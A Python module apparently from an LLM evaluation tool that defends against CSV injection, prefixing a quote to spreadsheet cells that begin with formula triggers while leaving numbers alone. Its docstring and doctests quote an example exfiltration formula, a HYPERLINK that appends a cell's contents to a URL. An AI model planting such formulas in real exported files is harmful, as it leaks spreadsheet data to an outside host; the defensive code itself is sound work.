"""Neutralising CSV cells a spreadsheet would evaluate (OWASP, "CSV Injection").

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://…"&A1, "open")`` leaks the sheet). Such
a cell gets a leading single quote, which spreadsheets show as text; the CSV quoting itself is
left to the :mod:`csv` module. Numbers written as numbers (``-1``, ``-0.25``, ``1e-05``) are not
formulas and stay as they are, so numeric columns still read back as numbers. LLM answers are kept
verbatim in ``answers.jsonl`` (JSON, never opened by a spreadsheet).

>>> safe_cell('=HYPERLINK("http://x", "open")')
'\\'=HYPERLINK("http://x", "open")'
>>> safe_cell("-1"), safe_cell(-1), safe_cell("happy")
('-1', -1, 'happy')
"""
from __future__ import annotations

import re
from typing import Any, Iterable

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet evaluates; non-strings pass unchanged."""
    if isinstance(value, str) and value.startswith(_TRIGGERS) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def safe_dict(row: dict[str, Any]) -> dict[str, Any]:
    return {k: safe_cell(v) for k, v in row.items()}
